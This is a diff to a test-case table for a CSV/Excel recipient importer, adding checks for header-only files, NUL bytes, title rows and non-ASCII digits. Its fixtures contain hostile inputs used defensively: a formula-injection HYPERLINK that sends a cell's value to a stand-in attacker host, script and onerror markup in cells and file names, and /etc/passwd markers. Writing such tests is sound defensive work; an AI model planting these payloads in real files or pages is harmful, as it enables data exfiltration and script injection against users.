@@ -68,6 +68,8 @@ def valid_csv() -> bytes:
 
 
 NOT_AN_AMOUNT = "is not an amount; write it like 50 or 50.00"
+NOT_ASCII_DIGITS = "only the digits 0-9 are accepted"
+NO_DATA_ROWS = "The file has a header but no recipient rows: nothing to send."
 # Markup in a file name (no "/": a browser sends only the last path segment).
 HOSTILE_NAME = "<script>alert('name')<img src=x onerror=alert(1)>"
 PASSWD = ("root:x:0:0", "/bin/bash", "/usr/sbin/nologin")
@@ -76,9 +78,10 @@ CASES: list[Case] = [
     # --- Not a spreadsheet, or not one we read ------------------------------------------------
     Case("empty-file", "empty.csv", fixed("empty.csv"), REFUSED, (),
          admin_words=("The submitted file is empty",), cli_words=("no name", "email column", "row 1 is empty")),
-    Case("header-only", "header_only.csv", fixed("header_only.csv"), REFUSED, (),
-         admin_words=("No valid data to import",), cli_words=("0 valid rows", "No valid rows: nothing was created"),
-         exit_code=0),  # no row is invalid: 0 (DESIGN.md), with nothing created
+    # Nothing to send is a refusal (exit 2), not "every row valid" (exit 0).
+    Case("header-only", "header_only.csv", fixed("header_only.csv"), REFUSED, (NO_DATA_ROWS,)),
+    Case("header-and-blank-rows", "blank_rows.csv", lambda: b"name,email,amount\n\n , ,\n,,\n", REFUSED,
+         (NO_DATA_ROWS,)),
     Case("binary-junk", "photo.jpg", fixed("binary_junk.bin"), REFUSED, ("not a spreadsheet file", SAVE_AS)),
     Case("old-excel-xls", "old_excel.xls", fixed("old_excel.xls"), REFUSED, ("old Excel .xls", SAVE_AS)),
     Case("ods", "recipients.ods", workbooks.ods, REFUSED, ("OpenDocument spreadsheet (.ods)", SAVE_AS)),
@@ -87,7 +90,12 @@ CASES: list[Case] = [
     Case("truncated-xlsx", "half.xlsx", workbooks.truncated_xlsx, REFUSED, ("damaged", SAVE_AS)),
     Case("zip-not-a-workbook", "recipients.zip", workbooks.zip_not_a_workbook, REFUSED,
          ("not an Excel workbook", SAVE_AS)),
-    Case("nul-bytes", "nul_bytes.csv", fixed("nul_bytes.csv"), REFUSED, ("not a spreadsheet file", SAVE_AS)),
+    # One NUL in one cell of a UTF-8 CSV: that row's control character, not a binary file.
+    Case("nul-byte-in-a-cell", "nul_bytes.csv", fixed("nul_bytes.csv"), NO_VALID_ROWS,
+         ("invisible control character (U+0000)",),
+         cli_words=("Row 2, name: This cell contains an invisible control character (U+0000)",)),
+    Case("nul-bytes-throughout", "nuls.csv", lambda: b"name,email,amount\n" + b"\x00" * 64, REFUSED,
+         ("not a spreadsheet file", SAVE_AS)),
     Case("utf16-without-bom", "utf16.csv", fixed("utf16_without_bom.csv"), REFUSED,
          ("not a spreadsheet file", "CSV (UTF-8)")),
     Case("unclosed-quote", "unclosed_quote.csv", fixed("unclosed_quote.csv"), REFUSED,
@@ -126,6 +134,22 @@ CASES: list[Case] = [
          ("no email column", "'email;amount'")),
     Case("duplicated-columns", "dup.csv", fixed("duplicated_columns.csv"), REFUSED,
          ("The column 'email' appears twice (columns B and D)",)),
+    Case("missing-name-and-amount", "no_name.csv", lambda: b"E-mail,Department\nana@example.com,HR\n", REFUSED,
+         ("no name (or first_name and last_name) column, and no amount column", "Columns found: 'E-mail', "
+          "'Department'")),
+    # --- Title rows above the header (the rows keep the numbers the spreadsheet shows) -----------
+    Case("title-rows-csv", "hr_export.csv", workbooks.title_rows_csv, ACCEPTED, (),
+         admin_words=("Row 3 was taken as the header; rows 1–2 above it were skipped as titles.",
+                      "1 valid row will become an order"),
+         cli_words=("Row 3 was taken as the header; rows 1–2 above it were skipped as titles.",
+                    "1 valid row (100.00 DKK), 0 invalid rows.")),
+    Case("title-rows-xlsx", "hr_export.xlsx", workbooks.title_rows_xlsx, ACCEPTED, (),
+         admin_words=("Row 3 was taken as the header", "1 valid row will become an order"),
+         cli_words=("Row 3 was taken as the header", "1 valid row (100.00 DKK)")),
+    Case("endless-title-rows-csv", "titles.csv", built(workbooks.endless_titles_csv), REFUSED,
+         ("no name (or first_name and last_name) and no email column", "first 10 non-blank rows"), max_seconds=2),
+    Case("endless-title-rows-xlsx", "titles.xlsx", built(workbooks.endless_titles_xlsx), REFUSED,
+         ("no name (or first_name and last_name) and no email column", "first 10 non-blank rows"), max_seconds=5),
     # --- Values --------------------------------------------------------------------------------
     Case("formula-values", "formulas.csv", fixed("formulas.csv"), ACCEPTED,
          ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+45 Ana", "-Bo", "@SUM(A1)"),
@@ -134,7 +158,7 @@ CASES: list[Case] = [
          cli_words=("4 valid rows", "Dry run: nothing was created")),
     Case("html-in-cells", "html.csv", fixed("html_in_cells.csv"), ACCEPTED, (),
          admin_words=("1 valid row will become an order", "<script>alert(1)</script>"),
-         cli_words=("1 valid rows", "Dry run: nothing was created")),
+         cli_words=("1 valid row (", "Dry run: nothing was created")),
     Case("control-characters", "bell.csv", fixed("control_characters.csv"), NO_VALID_ROWS,
          ("invisible control character",)),
     # "Ana \u202egpj.exe" shows as "Ana exe.jpg": a name that reads other than it is.
@@ -144,6 +168,14 @@ CASES: list[Case] = [
     Case("amount-nan", "nan.csv", fixed("amount_nan.csv"), NO_VALID_ROWS, ("'NaN' " + NOT_AN_AMOUNT,)),
     Case("amount-negative", "neg.csv", fixed("amount_negative.csv"), NO_VALID_ROWS, ("'-5' " + NOT_AN_AMOUNT,)),
     Case("amount-hex", "hex.csv", fixed("amount_hex.csv"), NO_VALID_ROWS, ("'0x10' " + NOT_AN_AMOUNT,)),
+    # Digits other than 0-9 (a regex digit class and Decimal read both as 50): refused on their row.
+    Case("amount-arabic-indic-digits", "arabic.csv", lambda: "name,email,amount\nAna,ana@example.com,٥٠\n".encode(),
+         NO_VALID_ROWS, ("'٥٠' is not an amount: " + NOT_ASCII_DIGITS,)),
+    Case("amount-full-width-digits", "fullwidth.csv", lambda: "name,email,amount\nAna,ana@example.com,５０\n".encode(),
+         NO_VALID_ROWS, ("'５０' is not an amount: " + NOT_ASCII_DIGITS,)),
+    Case("send-on-full-width-digits", "date.csv",
+         lambda: "name,email,amount,send_on\nAna,ana@example.com,100,２０９９-０１-３１\n".encode(),
+         NO_VALID_ROWS, ("is not a date: " + NOT_ASCII_DIGITS,)),
     Case("send-on-in-the-past", "past.csv", fixed("date_in_the_past.csv"), NO_VALID_ROWS,
          ("2020-01-31 is in the past",)),
     # --- Hostile file names (the name is shown back: escaped) ------------------------------------
@@ -156,5 +188,5 @@ CASES: list[Case] = [
     Case("file-name-nul", "recipients\x00.xls", fixed("old_excel.xls"), REFUSED, ("old Excel .xls",),
          channels=("admin",)),
     Case("file-name-markup-valid-file", HOSTILE_NAME + ".csv", valid_csv, ACCEPTED, (),
-         admin_words=("1 valid row will become an order",), cli_words=("1 valid rows", "Dry run: nothing was created")),
+         admin_words=("1 valid row will become an order",), cli_words=("1 valid row (", "Dry run: nothing was created")),
 ]
